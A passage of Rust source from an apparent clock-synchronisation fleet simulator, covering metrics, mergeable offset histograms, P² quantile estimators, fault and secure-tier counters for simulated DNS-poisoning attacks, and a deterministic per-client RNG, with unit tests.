            ),
            events: counter("fleet_events_total", "Client events stepped."),
            round_batches: counter(
                "fleet_round_batches_total",
                "Non-empty due-batch drains (sorted NTP round batches).",
            ),
            wheel_advances: counter(
                "fleet_wheel_advances_total",
                "Timer-wheel advance calls across all shards.",
            ),
            wheel_ticks_skipped: counter(
                "fleet_wheel_ticks_skipped_total",
                "Empty ticks jumped over by wheel fast-forward.",
            ),
        }
    }

    /// Builds unregistered (free-standing) instruments — same recording
    /// behaviour, nothing to scrape. Useful in tests and benches that
    /// only read the handles back directly.
    pub fn detached() -> FleetMetrics {
        FleetMetrics::registered(&Registry::new(), &[])
    }

    /// Summarizes the five stage histograms — the `stage_timings` rows
    /// the bench harness embeds in `BENCH_*.json`.
    pub fn stage_summaries(&self) -> Vec<StageSummary> {
        [
            &self.timeline_prepass,
            &self.shard_slice,
            &self.report_merge,
            &self.checkpoint_encode,
            &self.checkpoint_restore,
        ]
        .iter()
        .zip(STAGES)
        .map(|(h, stage)| StageSummary {
            stage,
            count: h.total(),
            total_secs: h.sum_secs(),
        })
        .collect()
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn registered_twice_shares_instruments() {
        let registry = Registry::new();
        let a = FleetMetrics::registered(&registry, &[]);
        let b = FleetMetrics::registered(&registry, &[]);
        a.events.add(3);
        b.events.add(4);
        assert_eq!(a.events.get(), 7);
    }

    #[test]
    fn stage_summaries_track_recorded_time() {
        let m = FleetMetrics::detached();
        m.shard_slice.record_ns(2_000_000_000);
        m.shard_slice.record_ns(1_000_000_000);
        let rows = m.stage_summaries();
        assert_eq!(rows.len(), 5);
        let slice = rows.iter().find(|r| r.stage == "shard_slice").unwrap();
        assert_eq!(slice.count, 2);
        assert!((slice.total_secs - 3.0).abs() < 1e-9);
        assert_eq!(rows[0].stage, "timeline_prepass");
        assert_eq!(rows[0].count, 0);
    }
}
