//! Streaming aggregates: fixed-bin histograms and online quantiles.
//!
//! A million-client fleet cannot afford per-client trajectories (that is
//! the whole point of the aggregate outputs): everything here is O(bins)
//! or O(markers) memory regardless of how many observations stream
//! through, which keeps a fleet run's peak RSS bounded by the state
//! columns alone.
//!
//! Both aggregates are **mergeable** (`merge_from`), which is what lets
//! the sharded fleet engine keep one private instance per shard and
//! combine them after parallel stepping: histograms merge exactly
//! (integer bin adds, any order), P² estimators merge deterministically
//! (count-weighted markers) and are folded in fixed shard order so the
//! merged estimate reproduces bit for bit across thread counts.

use serde::{Deserialize, Serialize};

/// Fault-injection activity counters ([`crate::config::FaultPlan`]),
/// accumulated per client and merged into per-tier and fleet-wide sums in
/// [`FleetReport`](crate::engine::FleetReport). All-zero in a fault-free
/// run.
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq, Serialize, Deserialize)]
pub struct FaultCounters {
    /// NTP samples dropped by the per-sample loss draw (poll and panic
    /// rounds).
    pub ntp_losses: u64,
    /// DNS queries whose SERVFAIL draw fired.
    pub dns_servfails: u64,
    /// DNS queries that hit a resolver outage (a cache miss inside an
    /// outage window — answered stale or failed).
    pub outage_hits: u64,
    /// DNS queries answered from an expired cache entry (RFC 8767
    /// serve-stale, via outage or SERVFAIL rescue).
    pub stale_served: u64,
    /// Plain-NTP boot-resolution retries scheduled after failed attempts.
    pub boot_retries: u64,
}

impl FaultCounters {
    /// Element-wise accumulation (for tier and fleet sums).
    pub fn accumulate(&mut self, other: &FaultCounters) {
        self.ntp_losses += other.ntp_losses;
        self.dns_servfails += other.dns_servfails;
        self.outage_hits += other.outage_hits;
        self.stale_served += other.stale_served;
        self.boot_retries += other.boot_retries;
    }

    /// Total fault events recorded.
    pub fn total(&self) -> u64 {
        self.ntp_losses
            + self.dns_servfails
            + self.outage_hits
            + self.stale_served
            + self.boot_retries
    }
}

/// Secure-tier (NTS / Roughtime) activity counters, accumulated per
/// client and merged into per-tier and fleet-wide sums in
/// [`FleetReport`](crate::engine::FleetReport). All-zero for fleets
/// without secure tiers, so pre-E18 reports are unchanged.
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq, Serialize, Deserialize)]
pub struct SecureCounters {
    /// NTS-KE associations (boot or re-key) resolved through a poisoned
    /// cache: the client held attacker-issued keys for the key lifetime
    /// that followed. Roughtime sources resolved to attacker servers at
    /// boot count here too.
    pub captured_associations: u64,
    /// Roughtime fetch rounds whose signed midpoints failed the strict
    /// majority-of-midpoints cross-check — misbehaviour *detected* (the
    /// clock was left alone).
    pub detected_inconsistencies: u64,
    /// NTS-KE handshakes that completed (boot and re-key, benign or
    /// captured) — the denominator of the capture rate.
    pub rekeys: u64,
}

impl SecureCounters {
    /// Element-wise accumulation (for tier and fleet sums).
    pub fn accumulate(&mut self, other: &SecureCounters) {
        self.captured_associations += other.captured_associations;
        self.detected_inconsistencies += other.detected_inconsistencies;
        self.rekeys += other.rekeys;
    }

    /// Total secure-tier events recorded.
    pub fn total(&self) -> u64 {
        self.captured_associations + self.detected_inconsistencies + self.rekeys
    }
}

/// A fixed-bin histogram over absolute clock offsets (nanoseconds).
///
/// Bins are logarithmic — each decade from 1 µs to 1000 s splits into
/// `bins_per_decade` — because attack-shifted offsets (hundreds of ms) and
/// healthy offsets (tens of µs) differ by orders of magnitude. Values
/// below the first edge land in bin 0; values beyond the last edge land in
/// the overflow bin.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct OffsetHistogram {
    /// Upper edge of each bin, ns (ascending; the last bin is overflow).
    edges_ns: Vec<u64>,
    /// Observation count per bin (`edges_ns.len() + 1` entries).
    counts: Vec<u64>,
    total: u64,
}

impl OffsetHistogram {
    /// A histogram with `bins_per_decade` bins per decade over
    /// `[1 µs, 1000 s)`.
    ///
    /// # Panics
    ///
    /// Panics if `bins_per_decade` is zero.
    pub fn log_scale(bins_per_decade: usize) -> Self {
        assert!(bins_per_decade > 0, "need at least one bin per decade");
        let decades = 9; // 1e3 ns .. 1e12 ns
        let mut edges_ns = Vec::with_capacity(decades * bins_per_decade);
        for d in 0..decades {
            for b in 1..=bins_per_decade {
                let exp = 3.0 + d as f64 + b as f64 / bins_per_decade as f64;
                edges_ns.push(10f64.powf(exp).round() as u64);
            }
        }
        let bins = edges_ns.len() + 1;
        OffsetHistogram {
            edges_ns,
            counts: vec![0; bins],
            total: 0,
        }
    }

    /// Zeroes every bin (fleet-reuse support).
    pub fn reset(&mut self) {
        self.counts.fill(0);
        self.total = 0;
    }

    /// Records one absolute offset.
    pub fn record(&mut self, abs_offset_ns: u64) {
        let bin = self.edges_ns.partition_point(|&e| e <= abs_offset_ns);
        self.counts[bin] += 1;
        self.total += 1;
    }

    /// Folds another histogram into this one by bin-wise addition. Counts
    /// are integers, so merging is exact, commutative and associative —
    /// sharded fleet runs produce byte-identical histograms in any merge
    /// order.
    ///
    /// # Panics
    ///
    /// Panics when the two histograms have different bin edges.
    pub fn merge_from(&mut self, other: &OffsetHistogram) {
        assert_eq!(
            self.edges_ns, other.edges_ns,
            "cannot merge histograms with different bin layouts"
        );
        for (c, o) in self.counts.iter_mut().zip(&other.counts) {
            *c += o;
        }
        self.total += other.total;
    }

    /// Total observations recorded.
    pub fn total(&self) -> u64 {
        self.total
    }

    /// Fraction of observations at or above `threshold_ns`.
    pub fn fraction_at_or_above(&self, threshold_ns: u64) -> f64 {
        if self.total == 0 {
            return 0.0;
        }
        let first = self.edges_ns.partition_point(|&e| e <= threshold_ns);
        let above: u64 = self.counts[first..].iter().sum();
        above as f64 / self.total as f64
    }

    /// The raw bin counts and total, for checkpoint serialization (bin
    /// edges are structural — a restore target rebuilt with the same
    /// `log_scale` call already carries them).
    pub(crate) fn raw_counts(&self) -> (&[u64], u64) {
        (&self.counts, self.total)
    }

    /// Overwrites the bin counts and total from a checkpoint. The caller
    /// guarantees `counts` came from a histogram with this bin layout.
    ///
    /// # Panics
    ///
    /// Panics if `counts` has the wrong number of bins.
    pub(crate) fn restore_counts(&mut self, counts: Vec<u64>, total: u64) {
        assert_eq!(counts.len(), self.counts.len(), "bin layout mismatch");
        self.counts = counts;
        self.total = total;
    }

    /// Iterates `(upper_edge_ns, count)` over non-empty bins; the overflow
    /// bin reports `u64::MAX` as its edge.
    pub fn nonzero_bins(&self) -> impl Iterator<Item = (u64, u64)> + '_ {
        self.counts
            .iter()
            .enumerate()
            .filter(|&(_, &c)| c > 0)
            .map(|(i, &c)| (self.edges_ns.get(i).copied().unwrap_or(u64::MAX), c))
    }
}

/// Online quantile estimation by the P² algorithm (Jain & Chlamtac 1985):
/// five markers track one quantile of an unbounded stream in O(1) memory
/// and O(1) per observation, without storing samples.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct P2Quantile {
    p: f64,
    /// Marker heights (estimates of the 0, p/2, p, (1+p)/2, 1 quantiles).
    q: [f64; 5],
    /// Marker positions (1-based ranks).
    n: [f64; 5],
    /// Desired marker positions.
    np: [f64; 5],
    /// Desired-position increments per observation.
    dn: [f64; 5],
    count: u64,
}

impl P2Quantile {
    /// An estimator for the `p`-quantile (`0 < p < 1`).
    ///
    /// # Panics
    ///
    /// Panics if `p` is outside `(0, 1)`.
    pub fn new(p: f64) -> Self {
        assert!(p > 0.0 && p < 1.0, "quantile must be in (0, 1): {p}");
        P2Quantile {
            p,
            q: [0.0; 5],
            n: [1.0, 2.0, 3.0, 4.0, 5.0],
            np: [1.0, 1.0 + 2.0 * p, 1.0 + 4.0 * p, 3.0 + 2.0 * p, 5.0],
            dn: [0.0, p / 2.0, p, (1.0 + p) / 2.0, 1.0],
            count: 0,
        }
    }

    /// The tracked quantile.
    pub fn p(&self) -> f64 {
        self.p
    }

    /// Observations seen.
    pub fn count(&self) -> u64 {
        self.count
    }

    /// Forgets every observation (fleet-reuse support).
    pub fn reset(&mut self) {
        *self = P2Quantile::new(self.p);
    }

    /// Feeds one observation.
    pub fn observe(&mut self, x: f64) {
        if self.count < 5 {
            self.q[self.count as usize] = x;
            self.count += 1;
            if self.count == 5 {
                self.q
                    .sort_unstable_by(|a, b| a.partial_cmp(b).expect("finite"));
            }
            return;
        }
        self.count += 1;
        // Locate the cell and bump the extreme markers.
        let k = if x < self.q[0] {
            self.q[0] = x;
            0
        } else if x < self.q[1] {
            0
        } else if x < self.q[2] {
            1
        } else if x < self.q[3] {
            2
        } else if x <= self.q[4] {
            3
        } else {
            self.q[4] = x;
            3
        };
        for i in (k + 1)..5 {
            self.n[i] += 1.0;
        }
        for i in 0..5 {
            self.np[i] += self.dn[i];
        }
        // Adjust the three interior markers toward their desired ranks.
        for i in 1..4 {
            let d = self.np[i] - self.n[i];
            if (d >= 1.0 && self.n[i + 1] - self.n[i] > 1.0)
                || (d <= -1.0 && self.n[i - 1] - self.n[i] < -1.0)
            {
                let d = d.signum();
                let qp = self.parabolic(i, d);
                self.q[i] = if self.q[i - 1] < qp && qp < self.q[i + 1] {
                    qp
                } else {
                    self.linear(i, d)
                };
                self.n[i] += d;
            }
        }
    }

    /// Folds another estimator of the same quantile into this one.
    ///
    /// When either side is still in its exact small-sample phase (fewer
    /// than 5 observations) the raw samples are simply replayed, so the
    /// merge is lossless. Once both sides carry ≥ 5 observations the
    /// extreme markers take the true min/max (lossless) while the three
    /// interior marker heights are combined by observation-count-weighted
    /// average, and the marker positions are re-anchored at their
    /// canonical desired ranks for the merged count.
    ///
    /// The result is a deterministic pure function of `(self, other)`;
    /// it is associative up to floating-point rounding (the weighted means
    /// are exact-arithmetic associative), which is why the fleet engine
    /// always folds shard estimators in ascending shard order — merged
    /// quantiles then reproduce bit for bit across thread counts.
    ///
    /// # Panics
    ///
    /// Panics when the two estimators track different quantiles.
    pub fn merge_from(&mut self, other: &P2Quantile) {
        assert!(
            self.p == other.p,
            "cannot merge estimators of different quantiles: {} vs {}",
            self.p,
            other.p
        );
        if other.count == 0 {
            return;
        }
        if self.count == 0 {
            *self = other.clone();
            return;
        }
        if other.count < 5 {
            // The other side still holds raw samples: replay them.
            for &x in &other.q[..other.count as usize] {
                self.observe(x);
            }
            return;
        }
        if self.count < 5 {
            // Symmetric case: replay our raw samples into the other side.
            let samples = self.count as usize;
            let mine = self.q;
            *self = other.clone();
            for &x in &mine[..samples] {
                self.observe(x);
            }
            return;
        }
        let (a, b) = (self.count as f64, other.count as f64);
        // The extreme markers track the stream's actual min/max, which
        // merge losslessly (and exactly associatively); only the three
        // interior markers need the count-weighted average.
        self.q[0] = self.q[0].min(other.q[0]);
        self.q[4] = self.q[4].max(other.q[4]);
        for j in 1..4 {
            self.q[j] = (self.q[j] * a + other.q[j] * b) / (a + b);
        }
        self.count += other.count;
        // Re-anchor marker positions at the canonical desired ranks for
        // the merged count so further observations stay well-formed (the
        // P² update needs n strictly increasing with n[0] = 1 and
        // n[4] = count).
        let n = self.count as f64;
        for j in 0..5 {
            self.np[j] = 1.0 + self.dn[j] * (n - 1.0);
        }
        self.n[0] = 1.0;
        self.n[4] = n;
        self.n[1] = self.np[1].round().clamp(2.0, n - 3.0);
        self.n[2] = self.np[2].round().clamp(self.n[1] + 1.0, n - 2.0);
        self.n[3] = self.np[3].round().clamp(self.n[2] + 1.0, n - 1.0);
    }

    /// Dumps the full estimator state for checkpoint serialization:
    /// `(p, q, n, np, dn, count)`. Bit-exact round-trip through
    /// [`P2Quantile::from_raw_parts`].
    pub(crate) fn to_raw_parts(&self) -> (f64, [f64; 5], [f64; 5], [f64; 5], [f64; 5], u64) {
        (self.p, self.q, self.n, self.np, self.dn, self.count)
    }

    /// Rebuilds an estimator from [`P2Quantile::to_raw_parts`] output.
    pub(crate) fn from_raw_parts(
        (p, q, n, np, dn, count): (f64, [f64; 5], [f64; 5], [f64; 5], [f64; 5], u64),
    ) -> Self {
        P2Quantile {
            p,
            q,
            n,
            np,
            dn,
            count,
        }
    }

    fn parabolic(&self, i: usize, d: f64) -> f64 {
        let (qm, q, qp) = (self.q[i - 1], self.q[i], self.q[i + 1]);
        let (nm, n, np) = (self.n[i - 1], self.n[i], self.n[i + 1]);
        q + d / (np - nm)
            * ((n - nm + d) * (qp - q) / (np - n) + (np - n - d) * (q - qm) / (n - nm))
    }

    fn linear(&self, i: usize, d: f64) -> f64 {
        let j = if d > 0.0 { i + 1 } else { i - 1 };
        self.q[i] + d * (self.q[j] - self.q[i]) / (self.n[j] - self.n[i])
    }

    /// The current estimate (exact below 5 observations).
    pub fn estimate(&self) -> f64 {
        match self.count {
            0 => 0.0,
            c if c < 5 => {
                // Small-sample: nearest-rank over what we have.
                let mut sorted = self.q[..c as usize].to_vec();
                sorted.sort_unstable_by(|a, b| a.partial_cmp(b).expect("finite"));
                let rank = ((self.p * c as f64).ceil() as usize).clamp(1, c as usize);
                sorted[rank - 1]
            }
            _ => self.q[2],
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn fault_counters_accumulate_elementwise() {
        let mut a = FaultCounters::default();
        assert_eq!(a.total(), 0);
        let b = FaultCounters {
            ntp_losses: 1,
            dns_servfails: 2,
            outage_hits: 3,
            stale_served: 4,
            boot_retries: 5,
        };
        a.accumulate(&b);
        a.accumulate(&b);
        assert_eq!(a.ntp_losses, 2);
        assert_eq!(a.boot_retries, 10);
        assert_eq!(a.total(), 30);
    }

    #[test]
    fn histogram_bins_and_fractions() {
        let mut h = OffsetHistogram::log_scale(4);
        // 70 small offsets (~10 µs), 30 attack-sized (~500 ms).
        for _ in 0..70 {
            h.record(10_000);
        }
        for _ in 0..30 {
            h.record(500_000_000);
        }
        assert_eq!(h.total(), 100);
        let f = h.fraction_at_or_above(100_000_000);
        assert!((f - 0.30).abs() < 1e-9, "fraction {f}");
        assert_eq!(h.fraction_at_or_above(0), 1.0);
        assert_eq!(h.fraction_at_or_above(u64::MAX), 0.0);
        assert!(h.nonzero_bins().count() >= 2);
        h.reset();
        assert_eq!(h.total(), 0);
        assert_eq!(h.fraction_at_or_above(1), 0.0);
    }

    #[test]
    fn histogram_overflow_and_underflow() {
        let mut h = OffsetHistogram::log_scale(2);
        h.record(0); // below first edge
        h.record(u64::MAX); // beyond last edge
        assert_eq!(h.total(), 2);
        assert_eq!(h.nonzero_bins().count(), 2);
        assert!((h.fraction_at_or_above(1_000_000) - 0.5).abs() < 1e-12);
    }

    #[test]
    fn p2_tracks_uniform_quantiles() {
        let mut median = P2Quantile::new(0.5);
        let mut p90 = P2Quantile::new(0.9);
        // A deterministic low-discrepancy-ish stream over (0, 1000).
        let mut state = 1u64;
        for _ in 0..50_000 {
            state = state
                .wrapping_mul(6364136223846793005)
                .wrapping_add(1442695040888963407);
            let x = (state >> 11) as f64 / (1u64 << 53) as f64 * 1000.0;
            median.observe(x);
            p90.observe(x);
        }
        assert!(
            (median.estimate() - 500.0).abs() < 15.0,
            "{}",
            median.estimate()
        );
        assert!((p90.estimate() - 900.0).abs() < 15.0, "{}", p90.estimate());
        assert_eq!(median.count(), 50_000);
    }

    #[test]
    fn p2_small_samples_are_exact_nearest_rank() {
        let mut q = P2Quantile::new(0.5);
        assert_eq!(q.estimate(), 0.0);
        q.observe(7.0);
        assert_eq!(q.estimate(), 7.0);
        q.observe(1.0);
        q.observe(9.0);
        assert_eq!(q.estimate(), 7.0, "median of {{1, 7, 9}}");
        q.reset();
        assert_eq!(q.count(), 0);
        assert_eq!(q.estimate(), 0.0);
    }

    #[test]
    #[should_panic(expected = "quantile must be in")]
    fn p2_rejects_degenerate_p() {
        P2Quantile::new(1.0);
    }

    #[test]
    fn histogram_merge_is_exact_and_associative() {
        let feed = |values: &[u64]| {
            let mut h = OffsetHistogram::log_scale(4);
            for &v in values {
                h.record(v);
            }
            h
        };
        let a = feed(&[5_000, 10_000, 800_000_000]);
        let b = feed(&[20_000, 500_000_000]);
        let c = feed(&[1_000, 1_000, 2_000_000]);
        // (a ⊕ b) ⊕ c
        let mut left = a.clone();
        left.merge_from(&b);
        left.merge_from(&c);
        // a ⊕ (b ⊕ c)
        let mut bc = b.clone();
        bc.merge_from(&c);
        let mut right = a.clone();
        right.merge_from(&bc);
        assert_eq!(left, right, "integer bin adds are associative");
        // ...and equal to recording the union stream directly.
        let union = feed(&[
            5_000,
            10_000,
            800_000_000,
            20_000,
            500_000_000,
            1_000,
            1_000,
            2_000_000,
        ]);
        assert_eq!(left, union, "merge equals the union stream");
        assert_eq!(left.total(), 8);
    }

    #[test]
    #[should_panic(expected = "different bin layouts")]
    fn histogram_merge_rejects_mismatched_layouts() {
        let mut a = OffsetHistogram::log_scale(4);
        a.merge_from(&OffsetHistogram::log_scale(8));
    }

    #[test]
    fn p2_merge_replays_small_sides_exactly() {
        // Merging a small-sample estimator is lossless: identical to
        // observing the union stream in (self, then other) order.
        let mut big = P2Quantile::new(0.5);
        for i in 0..100 {
            big.observe(f64::from(i));
        }
        let mut small = P2Quantile::new(0.5);
        small.observe(3.0);
        small.observe(97.0);
        let mut merged = big.clone();
        merged.merge_from(&small);
        let mut replayed = big.clone();
        replayed.observe(3.0);
        replayed.observe(97.0);
        assert_eq!(merged, replayed, "small side replays bit-for-bit");
        // Symmetric: small ⊕ big replays small's raw samples into big.
        let mut other_way = small.clone();
        other_way.merge_from(&big);
        assert_eq!(other_way.count(), 102);
        // Identity cases.
        let mut empty = P2Quantile::new(0.5);
        empty.merge_from(&big);
        assert_eq!(empty, big, "empty ⊕ x = x");
        let mut unchanged = big.clone();
        unchanged.merge_from(&P2Quantile::new(0.5));
        assert_eq!(unchanged, big, "x ⊕ empty = x");
    }

    #[test]
    fn p2_merge_is_deterministic_and_associative_up_to_rounding() {
        // Three shard-sized estimators over disjoint slices of one stream.
        let shard = |lo: u64, n: u64| {
            let mut q = P2Quantile::new(0.9);
            let mut state = lo.wrapping_mul(0x9e37_79b9_7f4a_7c15) | 1;
            for _ in 0..n {
                state = state
                    .wrapping_mul(6364136223846793005)
                    .wrapping_add(1442695040888963407);
                q.observe((state >> 11) as f64 / (1u64 << 53) as f64 * 1000.0);
            }
            q
        };
        let (a, b, c) = (shard(1, 4_000), shard(2, 6_000), shard(3, 2_000));
        // Fixed-order folds are bit-reproducible.
        let fold = |xs: &[&P2Quantile]| {
            let mut acc = P2Quantile::new(0.9);
            for x in xs {
                acc.merge_from(x);
            }
            acc
        };
        assert_eq!(fold(&[&a, &b, &c]), fold(&[&a, &b, &c]));
        // Count-weighted marker means are exact-arithmetic associative;
        // in f64 the two folds agree to rounding error.
        let left = fold(&[&a, &b, &c]);
        let mut bc = b.clone();
        bc.merge_from(&c);
        let mut right = a.clone();
        right.merge_from(&bc);
        assert_eq!(left.count(), right.count(), "counts are integers: exact");
        assert!(
            (left.estimate() - right.estimate()).abs() <= 1e-9 * left.estimate().abs().max(1.0),
            "association changed the estimate beyond rounding: {} vs {}",
            left.estimate(),
            right.estimate()
        );
        // And the merged estimate is statistically sane: each shard saw a
        // uniform(0, 1000) stream, so p90 sits near 900.
        assert!(
            (left.estimate() - 900.0).abs() < 25.0,
            "merged p90 {}",
            left.estimate()
        );
        // Extreme markers merge losslessly: the merged min/max are the
        // tightest of the sides', never a weighted blend.
        let q0 = |q: &P2Quantile| q.q[0];
        let q4 = |q: &P2Quantile| q.q[4];
        assert_eq!(q0(&left), q0(&a).min(q0(&b)).min(q0(&c)), "min is exact");
        assert_eq!(q4(&left), q4(&a).max(q4(&b)).max(q4(&c)), "max is exact");
        // A merged estimator still accepts observations.
        let mut live = left.clone();
        for _ in 0..1000 {
            live.observe(500.0);
        }
        assert_eq!(live.count(), 13_000);
    }

    #[test]
    #[should_panic(expected = "different quantiles")]
    fn p2_merge_rejects_mismatched_quantiles() {
        let mut a = P2Quantile::new(0.5);
        a.merge_from(&P2Quantile::new(0.9));
    }
}
