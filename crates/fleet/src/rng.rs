//! Per-client random streams.
//!
//! A fleet keeps one RNG stream per client so trajectories are a function
//! of `(fleet seed, global client id)` alone — independent of fleet size,
//! iteration order and thread count. The generator is SplitMix64: 8 bytes
//! of state per client (a [`netsim::rng::SimRng`] carries a full ChaCha
//! state, far too heavy for 10⁶ columns), passes practical statistical
//! tests, and seeds decorrelate under the finalizer mix.
//!
//! # Fault substreams
//!
//! Fault injection ([`crate::config::FaultPlan`]) draws from *stateless*
//! substreams keyed by `(fleet seed, global id, lane, round, slot)` —
//! [`fault_f64`] — rather than from the client's sequential stream. Two
//! properties follow by construction:
//!
//! * an all-zero plan consumes **no** draws, so the client's main stream
//!   advances exactly as in a fault-free fleet (fault layer off = legacy,
//!   byte for byte);
//! * every draw is addressable without replaying history, so faulty runs
//!   stay byte-identical across thread counts, shard sizes and fleet
//!   slicings (the draw never depends on stepping order).

use serde::{Deserialize, Serialize};

/// Weyl increment of SplitMix64.
const GAMMA: u64 = 0x9e37_79b9_7f4a_7c15;

/// The SplitMix64 output finalizer: a strong 64-bit mix.
#[inline]
fn finalize(mut z: u64) -> u64 {
    z = (z ^ (z >> 30)).wrapping_mul(0xbf58_476d_1ce4_e5b9);
    z = (z ^ (z >> 27)).wrapping_mul(0x94d0_49bb_1331_11eb);
    z ^ (z >> 31)
}

/// Derives the RNG seed for one client from the fleet seed and the
/// client's *global* id, so the same client reproduces its stream in any
/// fleet slicing (see `FleetConfig::first_client_id`).
pub fn client_seed(fleet_seed: u64, global_id: u64) -> u64 {
    finalize(fleet_seed ^ (global_id.wrapping_add(1)).wrapping_mul(GAMMA))
}

/// Salt folded into the fleet seed before deriving a client's *fault*
/// substreams, so fault draws are decorrelated from the client's main
/// boot/drift/sampling stream (which hashes the unsalted seed) and from
/// the resolver-assignment hash.
const FAULT_SALT: u64 = 0xfa17_5eed_0bad_ca11;

/// Which fault decision a [`fault_f64`] draw feeds. The lane keeps the
/// independent fault axes (DNS vs NTP vs backoff jitter) on disjoint
/// substreams even when they share a round index.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
#[repr(u64)]
pub enum FaultLane {
    /// One DNS pool query's SERVFAIL draw (`round` = the client's query
    /// index, `slot` = 0).
    DnsQuery = 1,
    /// One NTP sample's loss draw in a poll round (`round` = the client's
    /// poll index, `slot` = the sample's position in the round).
    NtpSample = 2,
    /// One NTP sample's loss draw in a panic round (`round` = the
    /// client's panic-episode index, `slot` = position).
    PanicSample = 3,
    /// The backoff-jitter draw of one plain-NTP boot retry (`round` = the
    /// failed attempt index, `slot` = 0). NTS re-key retries share the
    /// lane with `round` = `boundary · max_attempts + attempt`, which
    /// never collides with the plain encoding on the same client because
    /// a client runs exactly one kind.
    RetryJitter = 4,
    /// One NTS-KE association query's SERVFAIL draw (`round` = the
    /// re-key boundary index × `max_attempts` + the retry attempt,
    /// `slot` = 0). A lane of its own so adding NTS tiers to a plan
    /// leaves every pre-E18 substream untouched.
    NtsRekey = 5,
    /// One Roughtime source fetch's loss draw (`round` = the client's
    /// fetch-round index, `slot` = the source's position among the
    /// resolved sources).
    RoughtimeFetch = 6,
}

/// The seed of one fault draw's substream: a pure function of
/// `(fleet seed, global id, lane, round, slot)`. Stateless by design —
/// see the module docs.
pub fn fault_seed(fleet_seed: u64, global_id: u64, lane: FaultLane, round: u64, slot: u64) -> u64 {
    let base = client_seed(fleet_seed ^ FAULT_SALT, global_id);
    // Distinct odd multipliers per coordinate (golden-ratio family), then
    // the finalizer, so adjacent rounds/slots/lanes decorrelate fully.
    finalize(
        base ^ (lane as u64).wrapping_mul(0xd1b5_4a32_d192_ed03)
            ^ round.wrapping_add(1).wrapping_mul(0xaef1_7502_07c2_5f69)
            ^ slot.wrapping_add(1).wrapping_mul(0x9e37_79b9_7f4a_7c15),
    )
}

/// One uniform draw in `[0, 1)` from the fault substream keyed by
/// `(fleet seed, global id, lane, round, slot)`.
#[inline]
pub fn fault_f64(fleet_seed: u64, global_id: u64, lane: FaultLane, round: u64, slot: u64) -> f64 {
    FleetRng::from_seed(fault_seed(fleet_seed, global_id, lane, round, slot)).next_f64()
}

/// An 8-byte deterministic RNG stream (SplitMix64).
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
pub struct FleetRng(u64);

impl FleetRng {
    /// Creates a stream from a 64-bit seed.
    pub fn from_seed(seed: u64) -> Self {
        FleetRng(seed)
    }

    /// The raw state, for storage in a state column.
    pub fn state(self) -> u64 {
        self.0
    }

    /// Next 64 uniform bits.
    #[inline]
    pub fn next_u64(&mut self) -> u64 {
        self.0 = self.0.wrapping_add(GAMMA);
        finalize(self.0)
    }

    /// Uniform draw in `[0, 1)` with 53-bit resolution.
    #[inline]
    pub fn next_f64(&mut self) -> f64 {
        (self.next_u64() >> 11) as f64 * (1.0 / (1u64 << 53) as f64)
    }

    /// Uniform integer in `[0, n)`.
    ///
    /// # Panics
    ///
    /// Panics if `n` is zero.
    #[inline]
    pub fn range_u64(&mut self, n: u64) -> u64 {
        assert!(n > 0, "empty range");
        // Multiply-shift reduction (Lemire, without the rejection step: the
        // modulo bias over ranges ≪ 2^64 is far below statistical noise for
        // a simulation, and determinism is what matters here).
        ((u128::from(self.next_u64()) * u128::from(n)) >> 64) as u64
    }

    /// Uniform integer in `[lo, hi]` (inclusive).
    ///
    /// # Panics
    ///
    /// Panics if `lo > hi`.
    #[inline]
    pub fn range_i64(&mut self, lo: i64, hi: i64) -> i64 {
        assert!(lo <= hi, "inverted range {lo}..={hi}");
        let span = (hi as i128 - lo as i128 + 1) as u128;
        let draw = (u128::from(self.next_u64()) * span) >> 64;
        (lo as i128 + draw as i128) as i64
    }

    /// A normal variate with the given mean and standard deviation
    /// (Box-Muller; consumes two uniforms).
    #[inline]
    pub fn normal(&mut self, mean: f64, std_dev: f64) -> f64 {
        let u1 = 1.0 - self.next_f64(); // (0, 1] so ln is finite
        let u2 = self.next_f64();
        mean + std_dev * (-2.0 * u1.ln()).sqrt() * (core::f64::consts::TAU * u2).cos()
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn streams_are_deterministic_and_decorrelated() {
        let mut a = FleetRng::from_seed(client_seed(7, 0));
        let mut b = FleetRng::from_seed(client_seed(7, 0));
        let mut c = FleetRng::from_seed(client_seed(7, 1));
        for _ in 0..64 {
            assert_eq!(a.next_u64(), b.next_u64());
        }
        let mut a = FleetRng::from_seed(client_seed(7, 0));
        let same = (0..64).filter(|_| a.next_u64() == c.next_u64()).count();
        assert_eq!(same, 0, "adjacent client ids share no outputs");
    }

    #[test]
    fn range_draws_are_in_bounds() {
        let mut rng = FleetRng::from_seed(3);
        for _ in 0..1000 {
            assert!(rng.range_u64(7) < 7);
            let v = rng.range_i64(-5, 5);
            assert!((-5..=5).contains(&v));
        }
        assert_eq!(rng.range_u64(1), 0);
        assert_eq!(rng.range_i64(4, 4), 4);
    }

    #[test]
    fn range_covers_extremes() {
        let mut rng = FleetRng::from_seed(11);
        let mut seen = [false; 5];
        for _ in 0..1000 {
            seen[rng.range_u64(5) as usize] = true;
        }
        assert!(seen.iter().all(|&s| s), "all residues reachable");
    }

    #[test]
    fn normal_moments_are_plausible() {
        let mut rng = FleetRng::from_seed(5);
        let n = 20_000;
        let samples: Vec<f64> = (0..n).map(|_| rng.normal(2.0, 3.0)).collect();
        let mean = samples.iter().sum::<f64>() / n as f64;
        let var = samples.iter().map(|x| (x - mean) * (x - mean)).sum::<f64>() / (n - 1) as f64;
        assert!((mean - 2.0).abs() < 0.1, "mean {mean}");
        assert!((var - 9.0).abs() < 0.5, "var {var}");
    }

    #[test]
    #[should_panic(expected = "empty range")]
    fn zero_range_rejected() {
        FleetRng::from_seed(0).range_u64(0);
    }

    #[test]
    fn fault_draws_are_stateless_and_keyed() {
        // Stateless: the same key always yields the same draw.
        let a = fault_f64(7, 3, FaultLane::DnsQuery, 5, 0);
        assert_eq!(a, fault_f64(7, 3, FaultLane::DnsQuery, 5, 0));
        assert!((0.0..1.0).contains(&a));
        // Every key coordinate matters.
